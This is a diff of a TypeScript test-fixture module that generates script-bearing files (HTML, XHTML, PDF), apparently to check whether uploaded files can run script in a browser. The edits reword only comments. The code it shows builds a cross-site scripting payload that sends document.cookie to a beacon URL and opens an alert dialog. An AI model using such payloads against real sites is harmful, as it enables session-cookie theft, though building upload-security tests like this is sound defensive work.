@@ -1,14 +1,14 @@
-/** Files that run a script where a browser takes them for a document, each telling a beacon that it did. */
+/** Files that run a script if a browser opens them as documents; each script sends a request to a beacon. */
 
 /** A file of an attacker. */
 export interface HostileFile {
   readonly name: string;
-  /** The type that the attacker's client declares. */
+  /** The media type that the client of the attacker declares. */
   readonly type: string;
   readonly content: string | Uint8Array<ArrayBuffer>;
 }
 
-/** What the scripts do: tell who they are and which cookie they see, and open a dialog. */
+/** The script: sends its name and its cookies to the beacon, and opens a dialog. */
 function script(beacon: string, who: string): string {
   return `var s=new Image();s.src='${beacon}?${who}='+encodeURIComponent((function(){try{return document.cookie}catch(e){return e.name}})());alert('${who}')`;
 }
@@ -19,7 +19,7 @@ const html = (beacon: string, who: string): string =>
     script(beacon, `${who}-onload`)
   }">`;
 
-/** Every kind of file that may run a script, under its own name and under others. */
+/** All kinds of files that may run a script, with usual and unusual extensions. */
 export function hostileFiles(beacon: string): readonly HostileFile[] {
   const xhtmlScript = (who: string): string =>
     `<script xmlns="http://www.w3.org/1999/xhtml">${script(beacon, who)}</script>`;
@@ -80,7 +80,7 @@ export function hostileFiles(beacon: string): readonly HostileFile[] {
   ];
 }
 
-/** A PDF of one empty page that runs a script when it is opened. Source: ISO 32000-1. */
+/** An empty PDF that runs a script when it is opened. Source: ISO 32000-1. */
 function pdf(code: string): string {
   const objects = [
     "<</Type/Catalog/Pages 2 0 R/OpenAction 4 0 R>>",
